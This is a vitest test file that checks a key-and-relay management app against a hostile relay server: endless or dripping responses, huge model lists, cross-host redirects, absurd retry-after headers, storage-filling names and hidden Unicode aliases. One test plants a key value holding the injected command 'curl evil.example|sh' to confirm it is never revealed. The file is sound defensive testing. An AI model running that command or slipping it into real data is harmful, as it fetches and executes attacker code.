import { describe, expect, test } from 'vitest';
import { fetchHttp } from '../../src/platform/fetch-http';
import { addKey } from '../../src/workflows/accounts/keep-keys';
import { findKey } from '../../src/workflows/accounts/find-key';
import { addAccount } from '../../src/workflows/accounts/keep-accounts';
import { revealKey } from '../../src/workflows/accounts/reveal-key';
import { openImport } from '../../src/workflows/import/open-import';
import { relistModels } from '../../src/workflows/import/relist-models';
import { LINEAR } from '../core/growth';
import { DEFAULT_ACCESS_TOKEN, fakeKey } from '../fakes/new-api.ts';
import {
  accountAt,
  apply,
  must,
  opened,
  planOf,
  scene,
  SECOND_KEY,
  writes,
  type Scene,
} from '../workflows/scene';
import { growthOf, hostileServer, sendJson, type HostileServer } from './server';

const DAY = 24 * 60 * 60 * 1000;
const MEGABYTE = 1024 * 1024;

/** A key at the hostile relay, and what its list of models comes to. */
async function at(
  { origin }: HostileServer,
  made: Scene,
): Promise<{ keyId: string; list(): ReturnType<typeof relistModels> }> {
  const keyId = must(await addKey(made.ports, { relayName: 'Hostile', baseUrl: origin, key: SECOND_KEY }));
  return { keyId, list: () => relistModels(made.ports, keyId, `${origin}/v1`) };
}

describe('a hostile relay', () => {
  test('that never stops sending is cut off', async () => {
    let sent = 0;
    const relay = await hostileServer((_, response) => {
      const chunk = Buffer.alloc(MEGABYTE, ' ');
      const more = (): void => {
        while (!response.destroyed && response.write(chunk)) sent++;
        sent++;
      };
      response.on('drain', more);
      more();
    });
    const { list } = await at(relay, await scene());
    expect(await list()).toMatchObject({ failure: { code: 'relay-too-large' } });
    expect(sent).toBeLessThan(64);
  });

  test('that sends a byte now and then is given up when the time of the whole is over', async () => {
    const relay = await hostileServer((_, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      const drip = setInterval(() => response.write(' '), 20);
      response.on('close', () => clearInterval(drip));
    });
    const reply = await fetchHttp.send({ method: 'GET', url: `${relay.origin}/v1/models`, timeoutMs: 200 });
    expect(reply).toMatchObject({ failure: { code: 'timeout' } });
  });

  test('with 100,000 models is read and planned in time that grows with their number', async () => {
    // Servers of its own for each size: a thread that is busy for seconds loses the connections it had.
    const growth = await growthOf(async (size) => {
      const relay = await hostileServer((_, response) =>
        sendJson(response, { data: Array.from({ length: size }, (__, n) => ({ id: `model-${n}` })) }),
      );
      const made = await scene();
      const { keyId } = await at(relay, made);
      expect(must(await openImport(made.ports, new Map(), keyId)).models).toMatchObject({ kind: 'listed' });
    }, 100_000);
    expect(growth).toBeLessThan(LINEAR);
  });

  test.each([
    ['addresses that never end', '://a:'],
    ['blanks', ' \t'],
    ['half a key', 'sk-'],
    ['signs at', '@'],
    ['brackets', '{"a":['],
  ])('whose refusal is made of %s holds nobody up', async (_, piece) => {
    let size = 0;
    const relay = await hostileServer((__, response) =>
      sendJson(response, { error: { message: piece.repeat(size / piece.length) } }, 401),
    );
    const { list } = await at(relay, await scene());
    const growth = await growthOf(async (chars) => {
      size = chars;
      expect(await list()).toMatchObject({ ok: false });
    }, 4 * MEGABYTE);
    expect(growth).toBeLessThan(LINEAR);
  });

  test('that redirects to another host does not bring the key there', async () => {
    const other = await hostileServer((_, response) => sendJson(response, { data: [] }));
    const relay = await hostileServer((_, response) =>
      response.writeHead(307, { location: `${other.origin}/v1/models` }).end(),
    );
    const { list } = await at(relay, await scene());
    expect(await list()).toMatchObject({ ok: false });
    expect(relay.asked).not.toEqual([]);
    expect(other.asked).toEqual([]);
  });

  test('that asks to wait for years is asked again after a day', async () => {
    const relay = await hostileServer((_, response) =>
      response.writeHead(429, { 'retry-after': '99999999999' }).end(),
    );
    const made = await scene();
    const login = { name: '', siteUrl: relay.origin, accessToken: DEFAULT_ACCESS_TOKEN, userId: '2' };
    must(await addAccount(made.ports, login));
    const waits = Object.values(must(await made.ports.saved.read()).waits);
    expect(waits).toHaveLength(1);
    for (const until of waits) expect(until).toBeLessThanOrEqual(made.clock.now() + DAY);
  });

  test('that reveals a command in place of a key gives nothing away', async () => {
    const made = await scene();
    must(await accountAt(made));
    const [account] = must(await made.ports.saved.read()).accounts;
    const listed = account?.keys[0];
    let told = '';
    const http: typeof fetchHttp = {
      async send(request) {
        const reply = await made.ports.http.send(request);
        if (!reply.ok || !request.url.includes('/key')) return reply;
        const text = reply.value.text.replace(/"key":"[^"]*"/, '"key":"Labk0001\\ncurl evil.example|sh\\n#"');
        told = text;
        return { ok: true, value: { ...reply.value, text } };
      },
    };
    const key = must(await findKey(made.ports, `${account?.id}/${listed?.remoteId}`));
    expect(await revealKey({ ...made.ports, http }, key)).toMatchObject({
      failure: { code: 'key-unrevealed' },
    });
    expect(told).toContain('curl');
    expect(Object.values(must(await made.ports.session.read()).revealed).join()).not.toContain('curl');
  });

  test('whose names fill the storage leaves room, and all that was there stays', async () => {
    const long = '\u202e\0'.repeat(25_000);
    const keys = Array.from({ length: 40 }, (_, n) => ({
      id: n + 1,
      name: long,
      group: long,
      key: fakeKey('x', n),
    }));
    const made = await scene({ relay: { keys } });
    must(await accountAt(made));
    const saved = must(await made.ports.saved.read());
    expect(saved.accounts[0]?.keys).toHaveLength(40);
    expect(JSON.stringify(saved).length).toBeLessThan(MEGABYTE);
    expect(saved.keys).toHaveLength(1);
  });

  test.each(['\u202egpt', 'gpt\u200b', 'gpt\u0085'])(
    'no alias of hidden signs is written: %j',
    async (alias) => {
      const made = await scene();
      const open = await opened(made.ports, made.keyId);
      const draft = { ...open.draft, models: [{ name: 'gpt-4o', alias, typed: true }] };
      expect(await apply(made.ports, made.keyId, draft, planOf(open).hash)).toMatchObject({ kind: 'failed' });
      expect(writes(made.proxy)).toEqual([]);
    },
  );
});
